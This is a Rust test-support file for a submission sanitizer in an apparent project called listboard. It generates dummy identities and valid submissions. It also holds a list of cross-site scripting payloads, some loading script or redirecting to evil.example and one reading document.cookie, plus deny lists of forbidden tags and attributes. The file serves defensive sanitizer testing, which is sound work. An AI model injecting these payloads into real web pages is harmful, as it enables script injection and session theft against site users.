// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Test data generators for abuse simulation.

use listboard::models::RawSubmission;

/// Generate a pool of submitter identities.
pub fn generate_identities(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| format!("10.{}.{}.{}", (i >> 16) & 0xFF, (i >> 8) & 0xFF, i & 0xFF))
        .collect()
}

/// A submission that passes validation.
pub fn valid_submission(i: usize) -> RawSubmission {
    RawSubmission {
        title: format!("Favourite places #{i}"),
        body: format!("A long enough description for list number {i}."),
        domain_id: 1,
        ..Default::default()
    }
}

/// Bodies carrying script payloads in Markdown and raw HTML form.
pub fn xss_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "before <script>document.cookie</script> after",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://example.com/a.png\" onload=\"alert(1)\">",
        "<svg onload=alert(1)><circle r=1></circle></svg>",
        "<body onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">click me</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">click me</a>",
        "<a href=\"&#106;avascript:alert(1)\">encoded</a>",
        "[click me](javascript:alert(1))",
        "![img](javascript:alert(1))",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<div style=\"background:url(javascript:alert(1))\">styled</div>",
        "<form action=\"https://evil.example\"><input name=q></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<p onclick=\"alert(1)\">paragraph</p>",
        "```\n<script>alert(1)</script>\n```",
        "<style>body { display: none }</style>",
        "<<script>script>alert(1)<</script>/script>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ]
}

/// Elements that must never survive sanitizing.
pub fn forbidden_tags() -> Vec<&'static str> {
    vec![
        "script", "iframe", "object", "embed", "form", "input", "meta", "style", "svg", "math",
        "body",
    ]
}

/// Attribute fragments that must never appear inside a surviving tag.
pub fn forbidden_attributes() -> Vec<&'static str> {
    vec![
        " onerror=",
        " onload=",
        " onclick=",
        " style=",
        "javascript:",
        "data:text/html",
    ]
}

/// Every markup tag in sanitized output, lower-cased.
///
/// Sanitized text never contains a bare `<`, so each `<` opens a real tag.
pub fn tags(html: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let end = rest[start..].find('>').map_or(rest.len(), |e| start + e + 1);
        tags.push(rest[start..end].to_lowercase());
        rest = &rest[end..];
    }
    tags
}

/// Name of a tag such as `<a href="x">` or `</a>`.
pub fn tag_name(tag: &str) -> &str {
    tag.trim_start_matches('<')
        .trim_start_matches('/')
        .split(|c: char| c.is_whitespace() || c == '>' || c == '/')
        .next()
        .unwrap_or("")
}
